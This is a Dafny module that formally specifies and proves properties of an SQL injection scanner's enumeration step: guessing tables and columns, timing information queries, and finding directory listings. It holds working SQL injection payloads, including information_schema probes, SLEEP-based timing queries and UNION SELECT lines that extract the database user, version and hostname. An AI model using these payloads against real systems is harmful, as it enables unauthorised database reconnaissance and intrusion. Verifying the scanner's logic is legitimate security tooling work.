/**
 * What the scanner does once a parameter looks injectable: guess table and
 * column names from fixed candidate lists, time a fixed set of information
 * queries, and look for directory listings.
 */
module Enumeration {
  import opened Wrappers
  import opened Text
  import opened Seqs
  import opened Http

  const CommonTables: seq<string> := [
    "users", "admin", "login", "accounts", "members",
    "customers", "employees", "products", "orders",
    "config", "settings", "sessions", "logs"
  ]

  const CommonColumns: seq<string> := [
    "id", "username", "password", "email", "user", "pass",
    "login", "name", "first_name", "last_name", "admin",
    "user_id", "email_address", "phone", "address", "data",
    "content", "description", "title", "user_name", "pwd"
  ]

  /** The existence oracle of both enumerators: the request answered 200 with a non-empty body. */
  predicate LooksPresent(answer: Option<Response>)
  {
    answer.Some? && answer.value.status == 200 && |answer.value.text| > 0
  }

  function TablePayload(table: string): string
  {
    "' AND (SELECT COUNT(*) FROM information_schema.tables WHERE table_name='" + table + "')>0--"
  }

  function ColumnPayload(table: string, column: string): string
  {
    "' AND (SELECT COUNT(*) FROM information_schema.columns WHERE table_name='" + table
      + "' AND column_name='" + column + "')>0--"
  }

  function TableHit(o: Oracle, t: Target): string -> bool
  {
    table => LooksPresent(o(TestUrl(t, TablePayload(table))))
  }

  function ColumnHit(o: Oracle, t: Target, table: string): string -> bool
  {
    column => LooksPresent(o(TestUrl(t, ColumnPayload(table, column))))
  }

  /**
   * `enumerate_tables`: the candidates whose probe looked present, in
   * candidate order. Only candidates are ever reported, each at most as often
   * as it is listed, and every candidate that looked present is reported.
   */
  method EnumerateTables(o: Oracle, t: Target) returns (found: seq<string>)
    ensures found == Filter(CommonTables, TableHit(o, t))
    ensures IsSubsequence(found, CommonTables)
    ensures forall table :: table in found <==> table in CommonTables && TableHit(o, t)(table)
  {
    found := [];
    for i := 0 to |CommonTables|
      invariant found == Filter(CommonTables[..i], TableHit(o, t))
    {
      var table := CommonTables[i];
      var response := o(TestUrl(t, TablePayload(table)));
      FilterSnoc(CommonTables, TableHit(o, t), i);
      if response.Some? && response.value.status == 200 && |response.value.text| > 0 {
        found := found + [table];
      }
    }
    assert CommonTables[..|CommonTables|] == CommonTables;
    FilterIsSubsequence(CommonTables, TableHit(o, t));
    forall table | table in CommonTables && TableHit(o, t)(table)
      ensures table in found
    {
      FilterKeepsHits(CommonTables, TableHit(o, t), table);
    }
  }

  /** `enumerate_columns` for one table: the same filter over the column candidates. */
  method EnumerateColumns(o: Oracle, t: Target, table: string) returns (found: seq<string>)
    ensures found == Filter(CommonColumns, ColumnHit(o, t, table))
    ensures IsSubsequence(found, CommonColumns)
    ensures forall column :: column in found <==> column in CommonColumns && ColumnHit(o, t, table)(column)
  {
    found := [];
    for i := 0 to |CommonColumns|
      invariant found == Filter(CommonColumns[..i], ColumnHit(o, t, table))
    {
      var column := CommonColumns[i];
      var response := o(TestUrl(t, ColumnPayload(table, column)));
      FilterSnoc(CommonColumns, ColumnHit(o, t, table), i);
      if response.Some? && response.value.status == 200 && |response.value.text| > 0 {
        found := found + [column];
      }
    }
    assert CommonColumns[..|CommonColumns|] == CommonColumns;
    FilterIsSubsequence(CommonColumns, ColumnHit(o, t, table));
    forall column | column in CommonColumns && ColumnHit(o, t, table)(column)
      ensures column in found
    {
      FilterKeepsHits(CommonColumns, ColumnHit(o, t, table), column);
    }
  }

  /** The named information queries of `extract_database_info`, in dictionary order. */
  const InfoQueries: seq<(string, string)> := [
    ("mysql_version", "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--"),
    ("database_name", "' UNION SELECT 1,@@version,3--"),
    ("current_user", "' UNION SELECT 1,USER(),3--"),
    ("server_name", "' UNION SELECT 1,@@SERVERNAME,3--"),
    ("database_version", "' UNION SELECT 1,version(),3--"),
    ("current_database", "' UNION SELECT 1,database(),3--"),
    ("user", "' UNION SELECT 1,user(),3--"),
    ("system_user", "' UNION SELECT 1,system_user(),3--"),
    ("hostname", "' UNION SELECT 1,@@hostname,3--"),
    ("database_user", "' UNION SELECT 1,@@user,3--"),
    ("schema_name", "' UNION SELECT 1,schema_name(),3--")
  ]

  /** The named probes of `enumerate_database_info`: three names, one payload. */
  const DatabaseInfoPayloads: seq<(string, string)> := [
    ("MySQL Version", "')) OR (SELECT SLEEP(5))--"),
    ("Database Name", "')) OR (SELECT SLEEP(5))--"),
    ("User Info", "')) OR (SELECT SLEEP(5))--")
  ]

  /** `extract_database_info` records a query strictly slower than 4 seconds ... */
  const ExtractThresholdMs := 4000
  /** ... and `enumerate_database_info` one strictly slower than 5 seconds. */
  const DatabaseInfoThresholdMs := 5000

  /** A named query whose request answered and took longer than `thresholdMs`. */
  predicate Delayed(o: Oracle, t: Target, payload: string, thresholdMs: nat)
  {
    match o(TestUrl(t, payload))
    case Some(r) => r.elapsedMs > thresholdMs
    case None => false
  }

  /** `f"{seconds:.2f}"` for a time given in milliseconds, rounding half up. */
  function FormatSeconds(ms: nat): string
  {
    var centis := (ms + 5) / 10;
    NatToString(centis / 100) + "." + [DigitChar(centis % 100 / 10), DigitChar(centis % 10)]
  }

  /** The value `extract_database_info` records for a delayed query. */
  function AvailableNote(ms: nat): string
  {
    "Available (delay: " + FormatSeconds(ms) + "s)"
  }

  /** The value `enumerate_database_info` records for a delayed probe. */
  function PossibleNote(ms: nat): string
  {
    "Possible vulnerability detected"
  }

  /** The dictionary built by walking `entries` in order and recording every delayed one. */
  function CollectDelayed(o: Oracle, t: Target, entries: seq<(string, string)>, thresholdMs: nat, note: nat -> string): map<string, string>
    decreases |entries|
  {
    if entries == [] then map[]
    else
      var previous := CollectDelayed(o, t, entries[..|entries| - 1], thresholdMs, note);
      var (name, payload) := entries[|entries| - 1];
      match o(TestUrl(t, payload))
      case Some(r) => if r.elapsedMs > thresholdMs then previous[name := note(r.elapsedMs)] else previous
      case None => previous
  }

  ghost predicate DistinctNames(entries: seq<(string, string)>)
  {
    forall i, j :: 0 <= i < j < |entries| ==> entries[i].0 != entries[j].0
  }

  /**
   * With distinct names, a name is recorded exactly when its query was
   * delayed, with the note for its elapsed time, and nothing else is recorded.
   */
  lemma {:induction false} CollectDelayedRecords(o: Oracle, t: Target, entries: seq<(string, string)>, thresholdMs: nat, note: nat -> string)
    requires DistinctNames(entries)
    ensures var info := CollectDelayed(o, t, entries, thresholdMs, note);
      && (forall i :: 0 <= i < |entries| ==>
            && (entries[i].0 in info <==> Delayed(o, t, entries[i].1, thresholdMs))
            && (entries[i].0 in info ==> info[entries[i].0] == note(o(TestUrl(t, entries[i].1)).value.elapsedMs)))
      && (forall name :: name in info ==> exists i :: 0 <= i < |entries| && entries[i].0 == name)
    decreases |entries|
  {
    if entries != [] {
      var init := entries[..|entries| - 1];
      CollectDelayedRecords(o, t, init, thresholdMs, note);
      var last := |entries| - 1;
      forall i | 0 <= i < last
        ensures entries[i].0 != entries[last].0 && init[i] == entries[i]
      {
      }
    }
  }

  lemma InfoQueriesDistinct()
    ensures DistinctNames(InfoQueries)
  {
  }

  /** `extract_database_info`: the information queries that answered after more than 4 seconds. */
  method ExtractDatabaseInfo(o: Oracle, t: Target) returns (info: map<string, string>)
    ensures info == CollectDelayed(o, t, InfoQueries, ExtractThresholdMs, AvailableNote)
    ensures forall i :: 0 <= i < |InfoQueries| ==>
      (InfoQueries[i].0 in info <==> Delayed(o, t, InfoQueries[i].1, ExtractThresholdMs))
    ensures forall name :: name in info ==> exists i :: 0 <= i < |InfoQueries| && InfoQueries[i].0 == name
  {
    info := map[];
    for i := 0 to |InfoQueries|
      invariant info == CollectDelayed(o, t, InfoQueries[..i], ExtractThresholdMs, AvailableNote)
    {
      var (name, query) := InfoQueries[i];
      assert InfoQueries[..i + 1][..i] == InfoQueries[..i];
      var response := o(TestUrl(t, query));
      if response.Some? {
        if response.value.elapsedMs > ExtractThresholdMs {
          info := info[name := AvailableNote(response.value.elapsedMs)];
        }
      }
    }
    assert InfoQueries[..|InfoQueries|] == InfoQueries;
    InfoQueriesDistinct();
    CollectDelayedRecords(o, t, InfoQueries, ExtractThresholdMs, AvailableNote);
  }

  /** `enumerate_database_info`: the three names whose (identical) probe answered after more than 5 seconds. */
  method EnumerateDatabaseInfo(o: Oracle, t: Target) returns (info: map<string, string>)
    ensures info == CollectDelayed(o, t, DatabaseInfoPayloads, DatabaseInfoThresholdMs, PossibleNote)
  {
    info := map[];
    for i := 0 to |DatabaseInfoPayloads|
      invariant info == CollectDelayed(o, t, DatabaseInfoPayloads[..i], DatabaseInfoThresholdMs, PossibleNote)
    {
      var (name, payload) := DatabaseInfoPayloads[i];
      assert DatabaseInfoPayloads[..i + 1][..i] == DatabaseInfoPayloads[..i];
      var response := o(TestUrl(t, payload));
      if response.Some? {
        if response.value.elapsedMs > DatabaseInfoThresholdMs {
          info := info[name := PossibleNote(response.value.elapsedMs)];
        }
      }
    }
    assert DatabaseInfoPayloads[..|DatabaseInfoPayloads|] == DatabaseInfoPayloads;
  }

  /**
   * All three names share one payload and hence one URL. With one answer per
   * URL, `enumerate_database_info` records all of them or none.
   */
  lemma DatabaseInfoAllOrNothing(o: Oracle, t: Target)
    ensures var info := CollectDelayed(o, t, DatabaseInfoPayloads, DatabaseInfoThresholdMs, PossibleNote);
      info == map[] || info == map["MySQL Version" := "Possible vulnerability detected",
                                   "Database Name" := "Possible vulnerability detected",
                                   "User Info" := "Possible vulnerability detected"]
  {
    var entries := DatabaseInfoPayloads;
    assert entries[..1][..0] == [];
    assert entries[..2][..1] == entries[..1];
    assert entries[..3][..2] == entries[..2];
    assert entries[..3] == entries;
    assert entries[..1] == [("MySQL Version", "')) OR (SELECT SLEEP(5))--")];
    assert CollectDelayed(o, t, entries[..1][..0], DatabaseInfoThresholdMs, PossibleNote) == map[];
    var first := CollectDelayed(o, t, entries[..1], DatabaseInfoThresholdMs, PossibleNote);
    var second := CollectDelayed(o, t, entries[..2], DatabaseInfoThresholdMs, PossibleNote);
    if Delayed(o, t, "')) OR (SELECT SLEEP(5))--", DatabaseInfoThresholdMs) {
      assert first == map["MySQL Version" := "Possible vulnerability detected"];
      assert second == map["MySQL Version" := "Possible vulnerability detected",
                           "Database Name" := "Possible vulnerability detected"];
    } else {
      assert first == map[];
      assert second == map[];
    }
  }

  /** `urljoin(base, directory)`, left uninterpreted. */
  type Joiner = (string, string) -> string

  /** A directory URL whose answer is 200 and carries a directory-listing marker. */
  function ListingHit(o: Oracle): string -> bool
  {
    url =>
      match o(url)
      case Some(r) =>
        r.status == 200
        && (Contains(r.text, "Index of /") || Contains(r.text, "Directory Listing For") || Contains(r.text, "Parent Directory"))
      case None => false
  }

  function DirectoryUrls(join: Joiner, base: string, directories: seq<string>): seq<string>
  {
    seq(|directories|, i requires 0 <= i < |directories| => join(base, directories[i]))
  }

  /**
   * `scan_directory_listing`: the joined candidate URLs that show a listing,
   * in candidate order; every such URL is reported and nothing else is.
   */
  method ScanDirectoryListing(o: Oracle, join: Joiner, base: string, directories: seq<string>) returns (found: seq<string>)
    ensures found == Filter(DirectoryUrls(join, base, directories), ListingHit(o))
    ensures forall url :: url in found <==> url in DirectoryUrls(join, base, directories) && ListingHit(o)(url)
  {
    ghost var urls := DirectoryUrls(join, base, directories);
    found := [];
    for i := 0 to |directories|
      invariant found == Filter(urls[..i], ListingHit(o))
    {
      var dirUrl := join(base, directories[i]);
      FilterSnoc(urls, ListingHit(o), i);
      var response := o(dirUrl);
      if response.Some? && response.value.status == 200 {
        if Contains(response.value.text, "Index of /") || Contains(response.value.text, "Directory Listing For") {
          found := found + [dirUrl];
        } else if Contains(response.value.text, "Parent Directory") {
          found := found + [dirUrl];
        }
      }
    }
    assert urls[..|directories|] == urls;
    forall url | url in urls && ListingHit(o)(url)
      ensures url in found
    {
      FilterKeepsHits(urls, ListingHit(o), url);
    }
  }
}
